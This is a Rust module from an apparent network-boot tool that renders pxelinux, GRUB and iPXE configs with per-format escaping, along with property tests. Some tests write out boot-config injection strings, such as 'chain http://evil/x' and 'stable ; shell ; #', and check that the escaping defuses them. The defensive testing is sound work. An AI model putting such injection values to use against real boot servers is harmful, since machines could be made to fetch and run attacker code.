//! Boot configs (pure): typed pxelinux, GRUB and iPXE configs rendered with
//! `Display`, the MAAS-style kernel command line, and MAC parsing.
//!
//! Strings from outside (kernel parameters from the config, the CLI or the API; image
//! names from the stream) reach a rendered config only through [`Quote`], the one
//! place that knows each format's escaping:
//! - pxelinux has no quoting: control characters become spaces, so a value can never
//!   start a new directive line;
//! - GRUB: every outside word is single-quoted (`'` becomes `'\''`), which GRUB takes
//!   literally (no `$` expansion, no `;`, no newline tricks);
//! - iPXE has no quoting at all: it splits a line at whitespace, takes the words
//!   `;`, `||` and `&&` as command separators, a word starting with `#` as the start
//!   of a comment and expands `${…}` anywhere. So `$`, `;`, `#` and control
//!   characters become `_`, and the second of `||` / `&&` becomes `_` (a single `|`
//!   or `&`, as in a URL query, stays), so no outside text forms one of those words.
//!
//! Limits checked when a config is rendered ([`Pxelinux::render`], [`Grub::render`],
//! [`Ipxe::render`]; a config over a limit is refused, never cut): the kernel command
//! line is at most [`MAX_CMDLINE`] bytes (x86 Linux takes 2048 with the NUL), which
//! also keeps pxelinux's `APPEND` line under the 4095 bytes it reads a line in (the
//! rest of a longer line would be read as a new directive), and image directories are
//! path segments of [`segment_ok`] characters only. Kernel parameters from the config,
//! the CLI and the API are checked by [`check_kernel_params`] when written.

use std::fmt;

/// Most bytes of extra kernel parameters (`[boot] kernel_params` and a machine's own
/// together, as rendered): well under what the kernel takes, leaving room for the
/// parameters rackboot adds.
pub const MAX_EXTRA_PARAMS: usize = 1024;

/// Most bytes of a rendered kernel command line: x86 Linux's `COMMAND_LINE_SIZE` is
/// 2048 including the terminating NUL.
pub const MAX_CMDLINE: usize = 2047;

/// pxelinux reads its config in pieces of this many bytes: a longer line continues
/// as a new line, i.e. a new directive.
pub const PXELINUX_LINE: usize = 4095;

/// Checks kernel parameters given by an operator (config, CLI, API): at most
/// [`MAX_EXTRA_PARAMS`] bytes, no control characters (a newline would end the
/// directive in every loader).
pub fn check_kernel_params(s: &str) -> Result<(), String> {
    if s.len() > MAX_EXTRA_PARAMS {
        return Err(format!(
            "kernel_params is {} bytes long; at most {MAX_EXTRA_PARAMS} are allowed",
            s.len()
        ));
    }
    if let Some(c) = s.chars().find(|c| c.is_control()) {
        return Err(format!(
            "kernel_params holds the control character {c:?}; only printable text is allowed"
        ));
    }
    Ok(())
}

/// Whether a name from the stream (os, arch, subarch, release, label) may be one
/// segment of an image path in a boot config. The rule is the sync's own
/// ([`crate::simplestreams::Segment`]: ASCII letters, digits and `._+~-`, not only
/// dots), so nothing a sync accepted is refused here, and nothing in that set has a
/// meaning in any loader's grammar; checking again here keeps a config safe even if a
/// name reached it some other way.
pub fn segment_ok(s: &str) -> bool {
    crate::simplestreams::Segment::parse(s).is_some()
}

/// Why a config was not rendered.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum RenderError {
    #[error("image directory {0:?} has a segment outside [A-Za-z0-9._+~-]")]
    BadDir(String),
    #[error("the kernel command line would be {0} bytes; at most {MAX_CMDLINE} are allowed")]
    CmdlineTooLong(usize),
    #[error("a pxelinux line would be {0} bytes; pxelinux reads at most {PXELINUX_LINE}")]
    LineTooLong(usize),
}

/// Checks what every loader shares: the image directory and the command line length.
fn check_boot(boot: &Boot) -> Result<(), RenderError> {
    let Boot::Image(b) = boot else {
        return Ok(());
    };
    if !b.dir.split('/').all(segment_ok) {
        return Err(RenderError::BadDir(b.dir.clone()));
    }
    // Each word plus a separating space, and what the loaders append (`BOOTIF=…`,
    // 29 bytes once expanded; `initrd=` for pxelinux, counted generously).
    let len: usize = b.params.iter().map(|p| p.len() + 1).sum::<usize>() + 64;
    if len > MAX_CMDLINE {
        return Err(RenderError::CmdlineTooLong(len));
    }
    Ok(())
}

/// A MAC address, canonical form `aa:bb:cc:dd:ee:ff`.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Mac(pub [u8; 6]);

impl Mac {
    /// Parses `aa:bb:…`, `aa-bb-…`, `aabb.ccdd.eeff` or bare hex, any case.
    pub fn parse(s: &str) -> Option<Mac> {
        let hex: String = s
            .chars()
            .filter(|c| !matches!(c, ':' | '-' | '.'))
            .collect();
        if hex.len() != 12 || !hex.chars().all(|c| c.is_ascii_hexdigit()) {
            return None;
        }
        let mut out = [0u8; 6];
        for (i, b) in out.iter_mut().enumerate() {
            *b = u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).ok()?;
        }
        Some(Mac(out))
    }

    /// `aa-bb-cc-dd-ee-ff` (pxelinux file names).
    pub fn dashed(&self) -> String {
        self.to_string().replace(':', "-")
    }
}

impl fmt::Display for Mac {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let b = self.0;
        write!(
            f,
            "{:02x}:{:02x}:{:02x}:{:02x}:{:02x}:{:02x}",
            b[0], b[1], b[2], b[3], b[4], b[5]
        )
    }
}

/// The single place where outside strings are escaped, per format.
pub enum Quote<'a> {
    Pxelinux(&'a str),
    Grub(&'a str),
    Ipxe(&'a str),
}

impl fmt::Display for Quote<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Quote::Pxelinux(s) => {
                for c in s.chars() {
                    use fmt::Write as _;
                    f.write_char(if c.is_control() { ' ' } else { c })?;
                }
                Ok(())
            }
            Quote::Grub(s) => {
                f.write_str("'")?;
                for c in s.chars() {
                    match c {
                        '\'' => f.write_str("'\\''")?,
                        c if c.is_control() => f.write_str(" ")?,
                        c => fmt::Write::write_char(f, c)?,
                    }
                }
                f.write_str("'")
            }
            Quote::Ipxe(s) => {
                use fmt::Write as _;
                let mut prev = None;
                for c in s.chars() {
                    let out = match c {
                        '$' | ';' | '#' => '_',
                        c if c.is_control() => '_',
                        // `||` and `&&` never appear, whatever the whitespace around.
                        '|' | '&' if prev == Some(c) => '_',
                        c => c,
                    };
                    f.write_char(out)?;
                    prev = Some(out);
                }
                Ok(())
            }
        }
    }
}

/// What a machine boots: an image or its local disk.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Boot {
    Image(ImageBoot),
    LocalDisk,
}

/// A kernel + initrd boot. `dir` is the image directory in the snapshot
/// (`os/arch/subarch/release/label`, holding `boot-kernel` and `boot-initrd`);
/// `params` are kernel command-line words (kernel syntax: a word may carry double
/// quotes), each an outside string.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ImageBoot {
    pub dir: String,
    pub params: Vec<String>,
}

impl ImageBoot {
    fn file(&self, base: &str, name: &str) -> String {
        format!("{base}{}/{name}", self.dir)
    }
}

/// A pxelinux config. `base` prefixes image paths: `http://host:port/images/` for
/// lpxelinux (kernel and initrd over HTTP), `::/` for plain pxelinux (TFTP, from the
/// root rather than the directory pxelinux itself was loaded from).
pub struct Pxelinux<'a> {
    pub boot: &'a Boot,
    pub base: &'a str,
}

impl fmt::Display for Pxelinux<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "DEFAULT execute")?;
        writeln!(f, "LABEL execute")?;
        match self.boot {
            Boot::Image(b) => {
                let kernel = b.file(self.base, "boot-kernel");
                let initrd = b.file(self.base, "boot-initrd");
                writeln!(f, "  KERNEL {}", Quote::Pxelinux(&kernel))?;
                writeln!(f, "  INITRD {}", Quote::Pxelinux(&initrd))?;
                write!(f, "  APPEND")?;
                for p in &b.params {
                    write!(f, " {}", Quote::Pxelinux(p))?;
                }
                writeln!(f)?;
                writeln!(f, "  IPAPPEND 2")
            }
            Boot::LocalDisk => {
                writeln!(f, "  KERNEL chain.c32")?;
                writeln!(f, "  APPEND hd0")
            }
        }
    }
}

impl Pxelinux<'_> {
    /// The config text, or why it cannot be served (see the module docs).
    pub fn render(&self) -> Result<String, RenderError> {
        check_boot(self.boot)?;
        let text = self.to_string();
        match text.lines().map(str::len).max() {
            Some(n) if n >= PXELINUX_LINE => Err(RenderError::LineTooLong(n)),
            _ => Ok(text),
        }
    }
}

/// A GRUB menu: one branch per CPU it may run on (`$grub_cpu`), so one per-MAC config
/// serves whatever architecture the machine turns out to be.
///
/// Image paths: `http` is a GRUB HTTP prefix (`(http,host:port)/images/`), `tftp` a
/// path prefix on GRUB's TFTP root (`/`). With both (GRUB loaded over TFTP), the
/// config loads the `http` module and fetches over HTTP, except under Secure Boot:
/// there GRUB is locked down (`$lockdown` is `y`) and loads no modules (the signed
/// GRUBs have no built-in HTTP), so it fetches over TFTP. The test cannot be
/// `if insmod http`: GRUB 2.06's `insmod` prints its error and returns success.
pub struct Grub<'a> {
    /// `(grub_cpu, boot)` pairs, e.g. `("x86_64", …)`, `("arm64", …)`.
    pub by_cpu: &'a [(String, Boot)],
    pub http: Option<&'a str>,
    pub tftp: Option<&'a str>,
}

impl Grub<'_> {
    fn linux(
        &self,
        f: &mut fmt::Formatter<'_>,
        b: &ImageBoot,
        base: &str,
        indent: &str,
    ) -> fmt::Result {
        write!(
            f,
            "{indent}linux {}",
            Quote::Grub(&b.file(base, "boot-kernel"))
        )?;
        for p in &b.params {
            // GRUB re-quotes the words it passes to the kernel itself (a word with
            // spaces gets double quotes), so kernel-level double quotes are dropped.
            write!(f, " {}", Quote::Grub(&p.replace('"', "")))?;
        }
        writeln!(f, " BOOTIF=01-${{net_default_mac}}")?;
        writeln!(
            f,
            "{indent}initrd {}",
            Quote::Grub(&b.file(base, "boot-initrd"))
        )
    }
}

impl fmt::Display for Grub<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "set default=\"0\"")?;
        writeln!(f, "set timeout=0")?;
        writeln!(f, "menuentry 'Ephemeral' {{")?;
        for (i, (cpu, boot)) in self.by_cpu.iter().enumerate() {
            let kw = if i == 0 { "if" } else { "elif" };
            writeln!(f, "  {kw} [ \"$grub_cpu\" = {} ]; then", Quote::Grub(cpu))?;
            match boot {
                Boot::Image(b) => match (self.http, self.tftp) {
                    (Some(http), Some(tftp)) => {
                        writeln!(f, "    if [ \"$lockdown\" = y ]; then")?;
                        self.linux(f, b, tftp, "      ")?;
                        writeln!(f, "    else")?;
                        writeln!(f, "      insmod http")?;
                        self.linux(f, b, http, "      ")?;
                        writeln!(f, "    fi")?;
                    }
                    (Some(base), None) | (None, Some(base)) => self.linux(f, b, base, "    ")?,
                    (None, None) => self.linux(f, b, "/", "    ")?,
                },
                Boot::LocalDisk => {
                    writeln!(f, "    for efi in /efi/boot/bootx64.efi /efi/boot/bootaa64.efi /efi/ubuntu/shimx64.efi /efi/ubuntu/shimaa64.efi /efi/debian/shimx64.efi /efi/debian/shimaa64.efi; do")?;
                    writeln!(
                        f,
                        "      if search --set=root --file $efi; then chainloader $efi; boot; fi"
                    )?;
                    writeln!(f, "    done")?;
                    writeln!(f, "    exit 1")?;
                }
            }
        }
        if !self.by_cpu.is_empty() {
            writeln!(f, "  fi")?;
        }
        writeln!(f, "}}")
    }
}

impl Grub<'_> {
    /// The config text, or why it cannot be served (see the module docs).
    pub fn render(&self) -> Result<String, RenderError> {
        for (_, boot) in self.by_cpu {
            check_boot(boot)?;
        }
        Ok(self.to_string())
    }
}

/// An iPXE script; `base` is `http://host:port/images/`.
pub struct Ipxe<'a> {
    pub boot: &'a Boot,
    pub base: &'a str,
}

impl fmt::Display for Ipxe<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "#!ipxe")?;
        match self.boot {
            Boot::Image(b) => {
                write!(
                    f,
                    "kernel {}",
                    Quote::Ipxe(&b.file(self.base, "boot-kernel"))
                )?;
                for p in &b.params {
                    write!(f, " {}", Quote::Ipxe(p))?;
                }
                writeln!(f, " BOOTIF=01-${{netX/mac:hexhyp}}")?;
                writeln!(
                    f,
                    "initrd {}",
                    Quote::Ipxe(&b.file(self.base, "boot-initrd"))
                )?;
                writeln!(f, "boot")
            }
            Boot::LocalDisk => {
                writeln!(f, "sanboot --no-describe --drive 0x80 || exit 1")
            }
        }
    }
}

impl Ipxe<'_> {
    /// The config text, or why it cannot be served (see the module docs).
    pub fn render(&self) -> Result<String, RenderError> {
        check_boot(self.boot)?;
        Ok(self.to_string())
    }
}

/// What the ephemeral kernel command line depends on.
pub struct Ephemeral<'a> {
    /// URL of the image's root filesystem.
    pub squashfs: &'a str,
    pub hostname: &'a str,
    /// The rack answered over IPv6: the initramfs configures IPv6 by DHCP instead.
    pub ipv6: bool,
    /// `os` and `release` of the image (Ubuntu before jammy gets `apparmor=0`).
    pub os: &'a str,
    pub release: &'a str,
}

/// The kernel parameters of an ephemeral boot, as MAAS builds them (without the
/// cloud-config URL and remote syslog, which need a region), followed by the
/// configured parameters. The cloud-config snippet is two kernel words, as MAAS
/// writes it.
pub fn ephemeral_params(e: &Ephemeral<'_>, extra: &[&str]) -> Vec<String> {
    let mut p: Vec<String> = vec![
        "nomodeset".into(),
        "ro".into(),
        format!("root=squash:{}", e.squashfs),
    ];
    if e.ipv6 {
        p.extend(["ip=off".into(), "ip6=dhcp".into()]);
    } else {
        p.extend([format!("ip=::::{}:BOOTIF", e.hostname), "ip6=off".into()]);
    }
    p.extend([
        "overlayroot=tmpfs".into(),
        "overlayroot_cfgdisk=disabled".into(),
        "cc:{'datasource_list':".into(),
        "['MAAS']}end_cc".into(),
    ]);
    if e.os == "ubuntu" && ["precise", "trusty", "xenial", "bionic", "focal"].contains(&e.release) {
        p.push("apparmor=0".into());
    }
    for x in extra {
        p.extend(split_params(x));
    }
    p
}

/// Splits a parameter string at whitespace outside double quotes (as the kernel does).
pub fn split_params(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quoted = false;
    for c in s.chars() {
        match c {
            '"' => {
                quoted = !quoted;
                cur.push(c);
            }
            c if c.is_whitespace() && !quoted => {
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
            c => cur.push(c),
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const HTTP: &str = "http://10.0.0.1:5248/images/";
    const GRUB_HTTP: &str = "(http,10.0.0.1:5248)/images/";

    fn image() -> Boot {
        Boot::Image(ImageBoot {
            dir: "debian/amd64/generic/bookworm/stable".into(),
            params: ephemeral_params(
                &Ephemeral {
                    squashfs:
                        "http://10.0.0.1:5248/images/debian/amd64/generic/bookworm/stable/squashfs",
                    hostname: "rackboot-525400123456",
                    ipv6: false,
                    os: "debian",
                    release: "bookworm",
                },
                &["console=ttyS0,115200 panic=-1 msg=\"a b\""],
            ),
        })
    }

    #[test]
    fn macs() {
        let m = Mac::parse("52-54-00-AB-cd-EF").unwrap();
        assert_eq!(m.to_string(), "52:54:00:ab:cd:ef");
        assert_eq!(m.dashed(), "52-54-00-ab-cd-ef");
        assert_eq!(Mac::parse("5254.00ab.cdef"), Some(m));
        assert_eq!(Mac::parse("52:54:00:ab:cd"), None);
        assert_eq!(Mac::parse("zz:54:00:ab:cd:ef"), None);
    }

    #[test]
    fn ipv6_racks_and_old_ubuntu() {
        let e = |ipv6, release| Ephemeral {
            squashfs: "http://[fd00::1]:5248/images/x/squashfs",
            hostname: "h",
            ipv6,
            os: "ubuntu",
            release,
        };
        let p = ephemeral_params(&e(true, "focal"), &[]);
        assert!(p.iter().any(|w| w == "ip=off") && p.iter().any(|w| w == "ip6=dhcp"));
        assert!(!p.iter().any(|w| w.starts_with("ip=::::")));
        assert!(p.iter().any(|w| w == "apparmor=0"));
        let p = ephemeral_params(&e(false, "noble"), &["x=1"]);
        assert!(p.iter().any(|w| w == "ip=::::h:BOOTIF") && p.iter().any(|w| w == "ip6=off"));
        assert!(!p.iter().any(|w| w == "apparmor=0"));
        assert_eq!(p.last().map(String::as_str), Some("x=1"));
    }

    #[test]
    fn params_split_like_the_kernel() {
        assert_eq!(
            split_params("  a=1  b=\"x y\"\tc "),
            vec!["a=1", "b=\"x y\"", "c"]
        );
    }

    #[test]
    fn pxelinux_snapshot() {
        let want = "DEFAULT execute
LABEL execute
  KERNEL http://10.0.0.1:5248/images/debian/amd64/generic/bookworm/stable/boot-kernel
  INITRD http://10.0.0.1:5248/images/debian/amd64/generic/bookworm/stable/boot-initrd
  APPEND nomodeset ro root=squash:http://10.0.0.1:5248/images/debian/amd64/generic/bookworm/stable/squashfs ip=::::rackboot-525400123456:BOOTIF ip6=off overlayroot=tmpfs overlayroot_cfgdisk=disabled cc:{'datasource_list': ['MAAS']}end_cc console=ttyS0,115200 panic=-1 msg=\"a b\"
  IPAPPEND 2
";
        let boot = image();
        assert_eq!(
            Pxelinux {
                boot: &boot,
                base: HTTP
            }
            .to_string(),
            want
        );
        let tftp = Pxelinux {
            boot: &boot,
            base: "::/",
        }
        .to_string();
        assert!(tftp.contains(
            "  KERNEL ::/debian/amd64/generic/bookworm/stable/boot-kernel\n  INITRD ::/debian/"
        ));
        assert_eq!(
            Pxelinux {
                boot: &Boot::LocalDisk,
                base: HTTP
            }
            .to_string(),
            "DEFAULT execute\nLABEL execute\n  KERNEL chain.c32\n  APPEND hd0\n"
        );
    }

    #[test]
    fn grub_snapshot() {
        let by_cpu = [
            ("x86_64".to_string(), image()),
            ("arm64".to_string(), Boot::LocalDisk),
        ];
        let g = Grub {
            by_cpu: &by_cpu,
            http: Some(GRUB_HTTP),
            tftp: Some("/"),
        };
        let want = r#"set default="0"
set timeout=0
menuentry 'Ephemeral' {
  if [ "$grub_cpu" = 'x86_64' ]; then
    if [ "$lockdown" = y ]; then
      linux '/debian/amd64/generic/bookworm/stable/boot-kernel' 'nomodeset' 'ro' 'root=squash:http://10.0.0.1:5248/images/debian/amd64/generic/bookworm/stable/squashfs' 'ip=::::rackboot-525400123456:BOOTIF' 'ip6=off' 'overlayroot=tmpfs' 'overlayroot_cfgdisk=disabled' 'cc:{'\''datasource_list'\'':' '['\''MAAS'\'']}end_cc' 'console=ttyS0,115200' 'panic=-1' 'msg=a b' BOOTIF=01-${net_default_mac}
      initrd '/debian/amd64/generic/bookworm/stable/boot-initrd'
    else
      insmod http
      linux '(http,10.0.0.1:5248)/images/debian/amd64/generic/bookworm/stable/boot-kernel' 'nomodeset' 'ro' 'root=squash:http://10.0.0.1:5248/images/debian/amd64/generic/bookworm/stable/squashfs' 'ip=::::rackboot-525400123456:BOOTIF' 'ip6=off' 'overlayroot=tmpfs' 'overlayroot_cfgdisk=disabled' 'cc:{'\''datasource_list'\'':' '['\''MAAS'\'']}end_cc' 'console=ttyS0,115200' 'panic=-1' 'msg=a b' BOOTIF=01-${net_default_mac}
      initrd '(http,10.0.0.1:5248)/images/debian/amd64/generic/bookworm/stable/boot-initrd'
    fi
  elif [ "$grub_cpu" = 'arm64' ]; then
    for efi in /efi/boot/bootx64.efi /efi/boot/bootaa64.efi /efi/ubuntu/shimx64.efi /efi/ubuntu/shimaa64.efi /efi/debian/shimx64.efi /efi/debian/shimaa64.efi; do
      if search --set=root --file $efi; then chainloader $efi; boot; fi
    done
    exit 1
  fi
}
"#;
        assert_eq!(g.to_string(), want);
        // Over HTTP boot: HTTP only, no fallback.
        let by_cpu = [("x86_64".to_string(), image())];
        let g = Grub {
            by_cpu: &by_cpu,
            http: Some(GRUB_HTTP),
            tftp: None,
        }
        .to_string();
        assert!(!g.contains("insmod"), "{g}");
        assert!(
            g.contains("\n    linux '(http,10.0.0.1:5248)/images/debian/"),
            "{g}"
        );
    }

    #[test]
    fn ipxe_snapshot() {
        let want = "#!ipxe
kernel http://10.0.0.1:5248/images/debian/amd64/generic/bookworm/stable/boot-kernel nomodeset ro root=squash:http://10.0.0.1:5248/images/debian/amd64/generic/bookworm/stable/squashfs ip=::::rackboot-525400123456:BOOTIF ip6=off overlayroot=tmpfs overlayroot_cfgdisk=disabled cc:{'datasource_list': ['MAAS']}end_cc console=ttyS0,115200 panic=-1 msg=\"a b\" BOOTIF=01-${netX/mac:hexhyp}
initrd http://10.0.0.1:5248/images/debian/amd64/generic/bookworm/stable/boot-initrd
boot
";
        assert_eq!(
            Ipxe {
                boot: &image(),
                base: HTTP
            }
            .to_string(),
            want
        );
        assert_eq!(
            Ipxe {
                boot: &Boot::LocalDisk,
                base: HTTP
            }
            .to_string(),
            "#!ipxe\nsanboot --no-describe --drive 0x80 || exit 1\n"
        );
    }

    /// A word of GRUB script after lexing: its text, and whether any part of it was
    /// an unquoted or double-quoted `$` expansion.
    #[derive(Debug, PartialEq)]
    struct Word {
        text: String,
        expands: bool,
    }

    fn word(cur: &mut Option<Word>) -> &mut Word {
        cur.get_or_insert_with(|| Word {
            text: String::new(),
            expands: false,
        })
    }

    /// Lexes one line of GRUB script the way GRUB's parser does: `'…'` is literal,
    /// `"…"` allows `\` escapes and `$` expansion, `\X` outside quotes is X, blanks
    /// separate words, `;` `|` `&` `{` `}` `<` `>` are tokens of their own (a `;`
    /// word stands for each), and an unquoted `#` starting a word comments out the
    /// rest (a `#` word marks it). Returns None on an unterminated quote.
    fn grub_words(line: &str) -> Option<Vec<Word>> {
        let mut words = Vec::new();
        let mut cur: Option<Word> = None;
        let mut chars = line.chars();
        while let Some(c) = chars.next() {
            match c {
                ' ' | '\t' => words.extend(cur.take()),
                '#' if cur.is_none() => {
                    words.push(Word {
                        text: "#".into(),
                        expands: false,
                    });
                    break;
                }
                ';' | '|' | '&' | '{' | '}' | '<' | '>' => {
                    words.extend(cur.take());
                    words.push(Word {
                        text: ";".into(),
                        expands: false,
                    });
                }
                '\'' => loop {
                    word(&mut cur); // `''` is an empty word
                    match chars.next()? {
                        '\'' => break,
                        c => word(&mut cur).text.push(c),
                    }
                },
                '"' => loop {
                    word(&mut cur);
                    match chars.next()? {
                        '"' => break,
                        '\\' => word(&mut cur).text.push(chars.next()?),
                        '$' => {
                            let w = word(&mut cur);
                            w.expands = true;
                            w.text.push('$');
                        }
                        c => word(&mut cur).text.push(c),
                    }
                },
                '\\' => word(&mut cur).text.push(chars.next()?),
                '$' => {
                    let w = word(&mut cur);
                    w.expands = true;
                    w.text.push('$');
                    // `${name}`: the braces belong to the expansion.
                    if chars.clone().next() == Some('{') {
                        for c in chars.by_ref() {
                            w.text.push(c);
                            if c == '}' {
                                break;
                            }
                        }
                    }
                }
                c => word(&mut cur).text.push(c),
            }
        }
        words.extend(cur);
        Some(words)
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2000))]
        #[test]
        fn outside_strings_never_break_out(s in "\\PC{0,30}|[\\x00-\\x7f]{0,30}", dir in "[ -~]{1,20}") {
            let boot = Boot::Image(ImageBoot { dir: dir.clone(), params: vec![s.clone(), "x".into()] });
            let clean = |t: &str| -> String { t.chars().map(|c| if c.is_control() { ' ' } else { c }).collect() };

            // pxelinux: the same lines and directives, whatever the strings.
            let p = Pxelinux { boot: &boot, base: HTTP }.to_string();
            let lines: Vec<&str> = p.lines().collect();
            proptest::prop_assert_eq!(lines.len(), 6);
            proptest::prop_assert!(lines[2].starts_with("  KERNEL ") && lines[3].starts_with("  INITRD "));
            proptest::prop_assert!(lines[4].starts_with("  APPEND ") && lines[4].ends_with(" x"));
            proptest::prop_assert_eq!(lines[5], "  IPAPPEND 2");

            // GRUB: lexed as GRUB does, `linux` gets exactly the kernel path, each
            // parameter (kernel double quotes dropped) and BOOTIF, and nothing from
            // outside expands a variable or starts a command.
            let by_cpu = [("x86_64".to_string(), boot.clone())];
            let g = Grub { by_cpu: &by_cpu, http: Some(GRUB_HTTP), tftp: None }.to_string();
            proptest::prop_assert_eq!(g.lines().count(), 8);
            let linux = g.lines().nth(4).unwrap();
            let words = grub_words(linux).expect("balanced quotes");
            let texts: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
            let kernel = clean(&format!("{GRUB_HTTP}{dir}/boot-kernel"));
            let param = clean(&s.replace('"', ""));
            proptest::prop_assert_eq!(
                texts,
                vec!["linux", kernel.as_str(), param.as_str(), "x", "BOOTIF=01-${net_default_mac}"]
            );
            proptest::prop_assert_eq!(words.iter().filter(|w| w.expands).count(), 1, "only BOOTIF expands");

            // iPXE, lexed as iPXE does: no new lines, no command separator word, no
            // comment, and no `$` expansion but BOOTIF's own.
            let i = Ipxe { boot: &boot, base: HTTP }.to_string();
            proptest::prop_assert_eq!(i.lines().count(), 4);
            for line in i.lines().skip(1) {
                let own = usize::from(line.starts_with("kernel "));
                proptest::prop_assert_eq!(line.matches('$').count(), own, "{}", line);
                proptest::prop_assert_eq!(ipxe_commands(line), 1, "{}", line);
            }
            let kernel = i.lines().nth(1).unwrap();
            proptest::prop_assert!(kernel.ends_with(" x BOOTIF=01-${netX/mac:hexhyp}"), "{}", kernel);
        }

        /// The strings iPXE, pxelinux and GRUB give a meaning, densely.
        #[test]
        fn loader_syntax_never_breaks_out(
            words in proptest::collection::vec("[ ;|&#${}()\\\\\"'a\n\t]{1,12}", 1..6),
        ) {
            let boot = Boot::Image(ImageBoot { dir: "ubuntu/amd64/generic/noble/stable".into(), params: words.clone() });
            let i = Ipxe { boot: &boot, base: HTTP }.render().unwrap();
            proptest::prop_assert_eq!(i.lines().count(), 4);
            for line in i.lines().skip(1) {
                proptest::prop_assert_eq!(ipxe_commands(line), 1, "{}", line);
            }
            let by_cpu = [("x86_64".to_string(), boot.clone())];
            let g = Grub { by_cpu: &by_cpu, http: Some(GRUB_HTTP), tftp: None }.render().unwrap();
            let words_out = grub_words(g.lines().nth(4).unwrap()).expect("balanced quotes");
            let texts: Vec<String> = words_out.iter().skip(2).map(|w| w.text.clone()).collect();
            let mut want: Vec<String> = words
                .iter()
                .map(|w| w.replace('"', "").chars().map(|c| if c.is_control() { ' ' } else { c }).collect())
                .collect();
            want.push("BOOTIF=01-${net_default_mac}".into());
            proptest::prop_assert_eq!(texts, want);
            proptest::prop_assert_eq!(words_out.iter().filter(|w| w.expands).count(), 1);
            let p = Pxelinux { boot: &boot, base: HTTP }.render().unwrap();
            proptest::prop_assert_eq!(p.lines().count(), 6);
        }

        /// However long the parameters, a rendered pxelinux config has no line pxelinux
        /// would split, and a command line over the kernel's limit is refused.
        #[test]
        fn long_params_are_refused_not_split(n in 1usize..40, len in 1usize..400) {
            let params: Vec<String> = (0..n).map(|k| format!("p{k}={}", "a".repeat(len))).collect();
            let cmdline = params.iter().map(|p| p.len() + 1).sum::<usize>();
            let boot = Boot::Image(ImageBoot { dir: "ubuntu/amd64/generic/noble/stable".into(), params });
            match (Pxelinux { boot: &boot, base: HTTP }).render() {
                Ok(text) => {
                    proptest::prop_assert!(cmdline <= MAX_CMDLINE);
                    proptest::prop_assert!(text.lines().all(|l| l.len() < PXELINUX_LINE));
                }
                Err(e) => proptest::prop_assert!(cmdline + 64 > MAX_CMDLINE, "{}", e),
            }
            proptest::prop_assert_eq!((Ipxe { boot: &boot, base: HTTP }).render().is_ok(), cmdline + 64 <= MAX_CMDLINE);
        }
    }

    /// How many commands iPXE runs from one script line: it splits at whitespace,
    /// the words `;`, `||` and `&&` separate commands, and a word starting with `#`
    /// comments out the rest (then the line must end there to count as one).
    fn ipxe_commands(line: &str) -> usize {
        let mut commands = 1;
        let words: Vec<&str> = line.split_whitespace().collect();
        for w in &words {
            if [";", "||", "&&"].contains(w) {
                commands += 1;
            }
            if w.starts_with('#') {
                commands += 1;
                break;
            }
        }
        commands
    }

    #[test]
    fn ipxe_separators_and_comments_are_neutralised() {
        let boot = Boot::Image(ImageBoot {
            dir: "ubuntu/amd64/generic/noble/stable".into(),
            params: split_params("a ; chain http://evil/x ; # b || c && d e||f ${x} u=1&v=2"),
        });
        let i = Ipxe {
            boot: &boot,
            base: HTTP,
        }
        .render()
        .unwrap();
        assert!(
            i.contains(" a _ chain http://evil/x _ _ b |_ c &_ d e|_f _{x} u=1&v=2 BOOTIF"),
            "{i}"
        );
    }

    #[test]
    fn stream_names_outside_the_segment_set_are_refused() {
        assert!(segment_ok("ga-24.04") && segment_ok("hwe-24.04-edge") && segment_ok("stable"));
        for bad in [
            "",
            ".",
            "..",
            "stable ; shell ; #",
            "a/b",
            "x$y",
            "l#1",
            "a b",
        ] {
            assert!(!segment_ok(bad), "{bad:?}");
        }
        let boot = Boot::Image(ImageBoot {
            dir: "ubuntu/amd64/generic/noble/stable ; shell ; #".into(),
            params: vec![],
        });
        assert!(matches!(
            (Ipxe {
                boot: &boot,
                base: HTTP
            })
            .render(),
            Err(RenderError::BadDir(_))
        ));
        assert!(check_kernel_params(&"a".repeat(MAX_EXTRA_PARAMS)).is_ok());
        let e = check_kernel_params(&"a".repeat(MAX_EXTRA_PARAMS + 1)).unwrap_err();
        assert!(e.contains("kernel_params") && e.contains("1025"), "{e}");
        assert!(check_kernel_params("a\nb").is_err());
    }
}
